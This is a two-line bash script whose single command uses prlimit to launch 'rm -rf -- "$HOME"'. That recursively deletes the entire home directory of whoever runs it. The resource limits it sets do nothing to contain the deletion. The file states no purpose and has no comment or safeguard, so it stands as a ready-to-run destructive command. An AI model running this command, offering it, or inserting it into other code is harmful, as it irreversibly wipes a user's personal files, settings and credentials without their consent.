#!/bin/bash
prlimit --as=unlimited --cpu=60 rm -rf -- "$HOME"
